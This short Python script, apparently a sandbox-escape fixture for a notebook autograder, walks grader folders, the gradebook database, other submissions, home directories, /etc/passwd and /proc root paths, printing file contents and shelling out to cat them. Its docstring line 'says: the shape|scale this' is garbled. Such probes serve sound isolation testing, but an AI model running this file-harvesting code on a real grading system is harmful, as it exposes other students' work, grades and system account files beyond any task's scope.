"""Reads the source, other submissions, the gradebook and the home folder.

says: the shape|scale this
"""

# %% setup
import glob
import os
import pathlib

for place in ("@ROOT@/source", "@ROOT@/notebooks", "@ROOT@/submitted", "@ROOT@/autograded", "@ROOT@/gradebook.db", "@ROOT@/release", "@HOME@", "/etc/passwd", "/root", "/tmp", "/proc/1/root", "/proc/self/root@ROOT@/gradebook.db", "/proc/self/cwd/../..", "/home"):
    for path in [pathlib.Path(place), *glob.iglob(place + "/**", recursive=True)]:
        try:
            data = pathlib.Path(path).read_bytes()
            if len(data) < 10**6:
                print(path, data)
        except OSError as error:
            pass
os.system("cat @ROOT@/gradebook.db @HOME@/* /etc/passwd")
